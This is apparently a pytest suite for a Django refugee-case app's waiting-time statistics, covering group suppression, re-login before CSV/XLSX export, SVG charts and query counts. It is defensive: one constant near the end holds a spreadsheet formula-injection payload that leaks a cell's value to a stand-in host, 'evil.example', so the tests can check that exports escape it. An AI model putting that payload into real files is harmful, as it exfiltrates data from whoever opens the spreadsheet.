"""Waiting-time statistics: Kaplan–Meier by group, the backlog, SVG and suppressed exports."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time

import numpy as np
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django_scopes import scope
from openpyxl import load_workbook

from panah.cases import queries
from panah.cases.models import Case
from panah.cases.statistics import table_rows, waiting_statistics
from panah.core.reauth import REAUTH_SESSION_KEY

from .conftest import lodged, refusal

pytestmark = pytest.mark.django_db


@pytest.fixture
def six_cases(make_case, make_person, today):
    """Five Iranian first applications (two decided) and one Afghan still waiting."""
    registered = today - dt.timedelta(days=300)
    decided = [lodged(registered), refusal(registered + dt.timedelta(days=100))]
    for n in range(5):
        make_case(registered_on=registered, steps=decided if n < 2 else [lodged(registered)])
    afghan = make_person(given_name_latin="Ahmad", nationality="Afghan")
    make_case(registered_on=registered, person=afghan)


def test_cases_still_waiting_count_in_the_curve(six_cases, org_a, today):
    with scope(organisation=org_a):
        stats = waiting_statistics(org_a.pk, as_of=today)
    (first,) = stats.by_procedure
    assert (first.group, first.cases, first.finished, first.still_waiting) == (
        "First application",
        6,
        2,
        4,
    )
    assert first.median_days is None  # more than half still wait: no median yet
    assert round(first.share_waiting_after(150), 3) == round(4 / 6, 3)
    assert stats.backlog[-1] == (today, 4)


def test_the_export_withholds_groups_below_the_threshold(six_cases, org_a, today, settings):
    settings.DISCLOSURE_THRESHOLD = 5
    with scope(organisation=org_a):
        header, rows = table_rows(waiting_statistics(org_a.pk, as_of=today, for_publication=True))
    nationality = {r[1]: r[2:5] for r in rows if r[0] == "nationality"}
    assert nationality == {"Iranian": [5, "< 5", "< 5"], "Afghan": ["< 5", "", ""]}
    assert header[2] == "cases"


def test_the_statistics_page_draws_svg_and_the_exports_need_a_recent_login(
    six_cases, coordinator_a, login_as
):
    client = login_as(coordinator_a)
    page = client.get("/cases/statistics/").content.decode()
    assert page.count("<svg") == 4 and "<script" not in page.split("<main")[1]
    response = client.get("/cases/statistics/waiting-times.csv")
    assert response.status_code == 302 and "confirm" in response["Location"]


def test_the_csv_and_xlsx_exports_apply_the_threshold(six_cases, coordinator_a, login_as, settings):
    settings.DISCLOSURE_THRESHOLD = 5
    client = login_as(coordinator_a)
    session = client.session
    session[REAUTH_SESSION_KEY] = time.time()
    session.save()
    response = client.get("/cases/statistics/waiting-times.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[[r[1] for r in rows].index("Afghan")][:3] == ["nationality", "Afghan", "< 5"]
    book = load_workbook(io.BytesIO(client.get("/cases/statistics/waiting-times.xlsx").content))
    values = [list(r) for r in book.active.iter_rows(values_only=True)]
    assert [v for v in values if v[1] == "Afghan"][0][:3] == ["nationality", "Afghan", "< 5"]


def test_the_waiting_columns_are_day_numbers_and_leave_out_cases_ended_undecided(
    make_case, org_a, today
):
    """The database computes the day numbers (on SQLite and PostgreSQL alike): date.toordinal()."""
    registered = today - dt.timedelta(days=300)
    decided = registered + dt.timedelta(days=100)
    make_case(registered_on=registered, steps=[lodged(registered), refusal(decided)])
    make_case(registered_on=registered, steps=[lodged(registered)])  # still waiting: no end
    withdrawn = make_case(registered_on=registered, steps=[lodged(registered)])
    with scope(organisation=org_a):
        Case.objects.filter(pk=withdrawn.pk).update(ended=True)
        make_case(registered_on=registered, nationality="Afghan")
        groups = queries.waiting_columns(org_a.pk)
    by_group = {(g.procedure, g.nationality): g for g in groups}
    assert set(by_group) == {("first", "Iranian"), ("first", "Afghan")}
    iranian = by_group["first", "Iranian"]
    # Each case's registration stays beside its own decision (NaN: still waiting).
    assert iranian.starts.tolist() == [registered.toordinal()] * 2
    decided_days = iranian.ends[~np.isnan(iranian.ends)].tolist()
    assert decided_days == [decided.toordinal()] and np.isnan(iranian.ends).sum() == 1
    assert len(by_group["first", "Afghan"].starts) == 1


def test_the_statistics_page_makes_the_same_number_of_queries_for_more_cases(
    six_cases, make_case, coordinator_a, login_as, today
):
    client = login_as(coordinator_a)

    def count() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get("/cases/statistics/").status_code == 200
        return len(captured)

    count()
    six = count()
    for _ in range(6):
        make_case(registered_on=today - dt.timedelta(days=30), nationality="Syrian")
    assert count() == six


def test_an_organisation_without_cases_has_empty_statistics(org_a, today):
    with scope(organisation=org_a):
        stats = waiting_statistics(org_a.pk, as_of=today)
    assert (stats.cases, stats.by_procedure, stats.by_month, stats.backlog) == (0, [], [], [])


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def test_a_formula_typed_as_a_nationality_is_plain_text_in_both_downloads(
    make_case, make_person, coordinator_a, login_as, settings, today
):
    # Six cases, above the threshold, so the group is shown: stored before the form refused it.
    settings.DISCLOSURE_THRESHOLD = 5
    for _ in range(6):
        person = make_person(given_name_latin="Sara", nationality=FORMULA)
        make_case(person=person, registered_on=today - dt.timedelta(days=30))
    client = login_as(coordinator_a)
    session = client.session
    session[REAUTH_SESSION_KEY] = time.time()
    session.save()

    rows = list(
        csv.reader(io.StringIO(client.get("/cases/statistics/waiting-times.csv").content.decode()))
    )
    (row,) = [r for r in rows if r[0] == "nationality"]
    assert row[1:3] == ["'" + FORMULA, "6"]

    content = client.get("/cases/statistics/waiting-times.xlsx").content
    sheet = load_workbook(io.BytesIO(content)).active
    (cell,) = [c for c in sheet["B"] if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert (cell.value, cell.data_type) == ("'" + FORMULA, "s")
    assert b"<f>" not in _sheet_xml(content)


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")
